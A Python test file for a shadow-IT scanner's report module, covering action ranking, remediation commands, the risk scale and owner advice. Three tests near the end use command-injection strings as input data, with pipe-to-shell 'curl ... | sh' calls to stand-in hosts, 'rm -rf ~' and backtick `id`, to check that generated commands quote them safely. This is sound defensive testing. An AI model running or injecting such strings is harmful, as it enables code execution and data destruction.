"""Top actions and the one scale: ordering, one action per app, the exact next step; an app
reads at least as bad as its worst open finding; owner advice follows the answer."""

from __future__ import annotations

import math
from datetime import date
from typing import Any

from reports import actions, scale
from scanner.analysis.owner_advice import owner_advice

TODAY = date(2026, 11, 20)


def app(key: str, people: int = 1, levels: tuple[str, ...] = (), **extra: Any) -> dict[str, Any]:
    return {
        "key": key,
        "name": key.title(),
        "people": people,
        "scopes": [{"level": lvl} for lvl in levels],
        "sources": ["entra"],
        "confirmation": {"state": "unconfirmed", "owner": None},
        "ownership": {"owner": None},
        "likely_owner": None,
        **extra,
    }


def finding(key: str, kind: str, severity: str, is_open: bool = True) -> dict[str, Any]:
    return {
        "id": f"{key}:{kind}",
        "app_key": key,
        "kind": kind,
        "severity": severity,
        "open": is_open,
        "remediation": "Ask the owner.",
    }


def test_order_is_severity_x_people_x_reach() -> None:
    apps = [
        app("few", people=2),
        app("many", people=40),
        app("reach", people=2, levels=("critical",)),
        app("worse", people=1),
    ]
    findings = [
        finding("few", "unsanctioned", "medium"),
        finding("many", "unsanctioned", "medium"),
        finding("reach", "unsanctioned", "medium"),
        finding("worse", "banned", "critical"),
    ]
    top = actions.top_actions(apps, findings, TODAY)
    # critical 64 x (1 + log2 2); medium 4 x (1 + log2 3) x critical reach 4; 4 x (1 + log2 41)
    assert [a["app_key"] for a in top] == ["worse", "reach", "many", "few"]
    assert top[0]["score"] == 128.0 and top[2]["score"] == round(4 * (1 + math.log2(41)), 2)
    assert [a["rank"] for a in top] == [1, 2, 3, 4]
    scores = [a["score"] for a in top]
    assert scores == sorted(scores, reverse=True)


def test_one_action_per_app_for_its_worst_open_finding() -> None:
    apps = [app("a", levels=("high",))]
    findings = [
        finding("a", "owner_unconfirmed", "low"),
        finding("a", "risky_scopes", "high"),
        finding("a", "lookalike", "critical", is_open=False),
        finding("a", "overlap", "info"),
    ]
    (only,) = actions.top_actions(apps, findings, TODAY)
    assert only["kind"] == "risky_scopes" and only["open_findings"] == 2
    assert only["step_kind"] == "console" and "> Permissions" in only["step"]


def test_at_most_ten_and_info_is_no_action() -> None:
    apps = [app(f"app{i}", people=i) for i in range(15)] + [app("info")]
    findings = [finding(f"app{i}", "unsanctioned", "medium") for i in range(15)]
    findings.append(finding("info", "overlap", "info"))
    top = actions.top_actions(apps, findings, TODAY)
    assert len(top) == actions.MAX_ACTIONS
    assert "info" not in {a["app_key"] for a in top}
    assert top[0]["app_key"] == "app14"


def test_admin_consent_affects_everyone() -> None:
    apps = [app("tenant", people=0, admin_consent=True), app("big", people=30)]
    findings = [finding("tenant", "admin_consent", "high"), finding("big", "risky_scopes", "high")]
    top = actions.top_actions(apps, findings, TODAY)
    assert top[0]["people"] == 30 and top[1]["people"] == 30


def test_steps_are_commands_with_real_options() -> None:
    apps = [app("loom"), app("old"), app("fees", sources=["files"])]
    findings = [
        finding("loom", "unsanctioned", "high"),
        finding("old", "stale_sanction", "medium"),
        finding("fees", "unused_spend", "low"),
    ]
    steps = {a["app_key"]: a["step"] for a in actions.top_actions(apps, findings, TODAY)}
    assert steps["loom"] == "shadowit sanction --config config.toml --status banned -- Loom"
    assert steps["old"] == "shadowit sanction --config config.toml --review-by 2027-11-20 -- Old"
    assert steps["fees"] == (
        "shadowit accept --config config.toml fees:unused_spend --until 2027-02-18"
        " --reason 'why it is accepted'"
    )


def test_owner_step_follows_the_answer() -> None:
    asked = app("asked", confirmation={"state": "sanction_requested", "owner": "ana@example.com"})
    (top,) = actions.top_actions([asked], [finding("asked", "owner_unconfirmed", "low")], TODAY)
    assert top["step"].endswith(" --status sanctioned --owner ana@example.com -- Asked")
    assert "confirm send" not in top["text"]


def test_scale_raises_the_level_to_the_worst_open_finding() -> None:
    banned = {"risk_level": "low", "findings": [finding("b", "banned", "critical")]}
    noisy = {"risk_level": "high", "findings": [finding("n", "new_app", "low")]}
    closed = {"risk_level": "low", "findings": [finding("c", "lookalike", "critical", False)]}
    info = {"risk_level": "low", "findings": [finding("i", "overlap", "info")]}
    scale.apply([banned, noisy, closed, info])
    assert (banned["risk_level"], banned["score_level"]) == ("critical", "low")
    assert banned["worst_severity"] == "critical"
    assert noisy["risk_level"] == "high" and noisy["worst_severity"] == "low"
    assert closed["risk_level"] == "low" and closed["worst_severity"] is None
    assert info["risk_level"] == "low" and info["worst_severity"] == "info"


def test_owner_advice_never_asks_to_send_once_answered() -> None:
    for state in ("confirmed", "requested", "rerouted", "disowned", "retire_requested"):
        advice = owner_advice("Canva", state, "ana@example.com")
        assert advice and "ana@example.com" in advice
        assert not advice.lower().startswith("send"), state
    assert owner_advice("Canva", "unconfirmed", None) is None
    assert "--status sanctioned --owner ana@example.com" in str(
        owner_advice("Canva", "sanction_requested", "ana@example.com")
    )


def test_an_owner_asked_again_reads_as_one_clause_with_the_command_once() -> None:
    due = app("due", confirmation={"state": "review_due", "owner": "ana@example.com"})
    (top,) = actions.top_actions([due], [finding("due", "owner_unconfirmed", "low")], TODAY)
    assert top["text"].endswith(
        "ask ana@example.com to confirm again: the last confirmation is older than the review"
        " period:"
    )
    assert top["step"] == "shadowit confirm send --config config.toml"


def test_a_hostile_app_name_stays_one_argument_of_the_command() -> None:
    import shlex

    hostile = 'Evil"; curl x.example | sh; echo "'
    for kind, severity in (("unsanctioned", "high"), ("unsanctioned", "medium")):
        target = app("evil", sources=[], name=hostile, likely_owner="a b@acme.example")
        (top,) = actions.top_actions([target], [finding("evil", kind, severity)], TODAY)
        assert top["step_kind"] == "command"
        argv = shlex.split(top["step"])
        assert argv[:4] == ["shadowit", "sanction", "--config", "config.toml"]
        assert argv[-2:] == ["--", hostile], "the name is one argument, nothing runs after it"
        assert "--owner" not in argv or argv[argv.index("--owner") + 1] == "a b@acme.example"


def test_an_accept_line_keeps_a_hostile_finding_id_one_argument() -> None:
    import shlex

    hostile = "okta:x'; rm -rf ~; echo 'y:unsanctioned"
    argv = shlex.split(actions.accept_line(hostile, "2027-01-31"))
    assert argv[4] == hostile and argv[-2:] == ["--reason", "why it is accepted"]


def test_owner_advice_quotes_a_hostile_name_and_owner() -> None:
    """The remediation of an owner-not-confirmed finding carries a command too: a name from a
    provider and an owner typed into the confirmation page stay single arguments."""
    import shlex

    name, owner = 'x"; curl evil.example|sh; echo "', "a`id`@example.com"
    advice = owner_advice(name, "sanction_requested", owner)
    assert advice is not None
    command = advice.split("run `", 1)[1].rstrip("`.")
    argv = shlex.split(command)
    assert argv[-2:] == ["--", name] and argv[argv.index("--owner") + 1] == owner


def test_a_banned_app_no_provider_lists_is_never_offered_for_sanctioning() -> None:
    target = app("fees", sources=["expenses"])
    (top,) = actions.top_actions([target], [finding("fees", "banned", "critical")], TODAY)
    assert "sanction" not in top["step"] and top["step_kind"] == "console"
    assert top["step"].startswith("inventory.xlsx")
